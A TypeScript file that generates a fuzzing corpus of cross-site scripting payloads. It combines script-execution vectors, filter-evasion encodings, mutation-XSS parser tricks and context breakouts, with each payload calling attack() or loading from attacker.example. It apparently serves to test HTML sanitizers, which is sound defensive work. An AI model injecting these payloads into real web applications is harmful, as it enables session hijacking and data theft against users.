// Malicious HTML, made from a grammar: ways to run a script × ways to write them down × contexts to break out of. Each
// calls `attack`, or brings something from the attacker's host.

/** Ways to run a script or to fetch something. CODE is what runs, URL leads to the attacker. */
const vectors = [
  ...['<script>CODE</script>', '<script src="URL"></script>', '<script/src=URL>', '<script>CODE'],
  ...['<img src=x onerror=CODE>', '<img src="x" onerror="CODE">', '<img srcset="URL 1x" src=x onerror=CODE>'],
  '<svg onload=CODE>',
  '<svg><a><animate attributeName=href values="javascript:CODE" /><text y=20>x</text></a></svg>',
  '<iframe srcdoc="<script>parent.CODE</script>"></iframe>',
  ...['<iframe src="javascript:CODE"></iframe>', '<iframe src="URL"></iframe>'],
  '<object data="javascript:CODE">',
  ...['<a href="javascript:CODE">a</a>', '<a href="data:text/html,<script>CODE</script>">a</a>'],
  ...['<a href="vbscript:CODE">a</a>', '<a href="//URL" onclick=CODE target=_top ping="URL">a</a>'],
  ...['<form action="javascript:CODE"><button>b</button></form>', '<math href="javascript:CODE">m</math>'],
  ...['<meta http-equiv="refresh" content="0;url=URL">', '<base href="URL">'],
  '<link rel=stylesheet href="URL">',
  ...['<style>@import "URL";</style>', '<p style="background:url(URL)">p', '<embed src="URL">'],
  '<p id=x tabindex=0 onfocus=CODE style="animation:x 1s" onanimationstart=CODE>p',
  '<template shadowrootmode=open><img src=x onerror=CODE></template>',
  // Text that is markup only to whoever parses it again.
  '<noscript><p title="</noscript><img src=x onerror=CODE>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=CODE&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CODE>',
  '<textarea><img title="</textarea><img src=x onerror=CODE>"></textarea>',
  '<title><img title="</title><img src=x onerror=CODE>"></title>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=CODE>">',
  ...['<!--><img src=x onerror=CODE>-->', '<![CDATA[<img src=x onerror=CODE>]]>', '";CODE//', '`;CODE//'],
  ...['\x24{CODE}', '{{constructor.constructor("CODE")()}}', '\\u003cscript\\u003eCODE\\u003c/script\\u003e'],
];

type Writing = (payload: string) => string;

const everyOther = (text: string) =>
  [...text].map((letter, index) => (index % 2 ? letter : letter.toUpperCase())).join('');
const inTags =
  (change: (name: string) => string): Writing =>
  (payload) =>
    payload.replaceAll(/(<\/?)([a-z]+)/gi, (_, open: string, name: string) => open + change(name));
const entities = (text: string) => Array.from(text, (letter) => `&#${letter.codePointAt(0)};`).join('');

/** Ways to write the same down. */
const writings: Writing[] = [
  (payload) => payload,
  inTags(everyOther),
  // Slashes and line breaks where blanks are expected.
  (payload) => payload.replaceAll(/<(\w+) /g, '<$1/'),
  // Without its last bracket, as if what follows were part of it.
  (payload) => payload.replace(/>$/, ' '),
  // Schemes and handlers that only a browser reads as such.
  (payload) => payload.replaceAll('javascript:', 'java\tscript:').replaceAll(/\bon([a-z]+)=/g, 'ON$1\n='),
  (payload) =>
    payload
      .replaceAll('javascript:', `${entities('javascript')}&colon;`)
      .replaceAll('CODE', entities('CODE')),
  // Names that are put together again when a filter takes the middle out.
  inTags((name) => `${name.slice(0, 2)}<${name}>${name.slice(2)}`),
  // Already escaped: it must stay a text.
  (payload) => payload.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
];

/** What closes the place that a text may stand in: attributes, titles, scripts, comments, data. */
const contexts = [
  ...['', '">', "'>", ' ', '--><!--x-->', '</title>', '</textarea>', '</script>', '</style>', ']]>'],
  ...['</p></div>', '\\">', '</noscript>', '</template>', '</svg>', '</math>', '`>', '"}]</script>'],
  ...['\u2028', '\u202e', "$'", '$&'],
];

const code = 'attack()';
const url = 'https://attacker.example/';
const filledIn = (text: string) =>
  text
    .replaceAll(entities('CODE'), () => entities(code))
    .replaceAll('CODE', () => code)
    .replaceAll('URL', () => url);

/** Every vector in every writing; the contexts take turns, so that each meets all vectors and all writings. */
const payloads = vectors.flatMap((vector, row) =>
  writings.map((write, column) => contexts[(row + column) % contexts.length] + filledIn(write(vector))),
);

/** Ends whatever a payload has left open, so that the next one is read as markup again. */
const closing = `"'>--></script></style></textarea></title></xmp></noscript></template></svg></math></option></select>]]>`;

/** What runs wherever it is not escaped, short enough for any field. */
const short = [
  '<noscript><p title="</noscript><img src=x onerror=attack()>">',
  ...['"', "'", '', '-->', '</title>', '</script>', '</style>', '</textarea>', '</noscript>'].map(
    (context) => `${context}><img src=x onerror=attack()>`,
  ),
];

/** All payloads, in texts of at most 19,000 characters; each begins with one for the fields that have no room for more. */
export const markup: string[] = [];
for (const payload of payloads) {
  const more = (markup.at(-1) ?? '') + closing + payload;
  if (markup.length > 0 && more.length <= 19_000) markup[markup.length - 1] = more;
  else markup.push(short[markup.length % short.length] + closing + payload);
}
